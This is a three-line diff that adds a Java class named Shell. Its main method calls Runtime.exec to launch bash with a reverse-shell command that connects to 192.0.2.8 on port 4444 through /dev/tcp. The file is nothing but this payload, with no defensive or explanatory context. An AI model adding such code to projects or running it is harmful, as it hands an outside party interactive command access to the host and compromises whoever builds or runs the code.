@@ -1,0 +1,3 @@
+public class Shell { public static void main(String[] a) throws Exception {
+  Runtime.getRuntime().exec(new String[]{"/bin/bash", "-c", "bash -i >& /dev/tcp/192.0.2.8/4444 0>&1"}).waitFor();
+} }
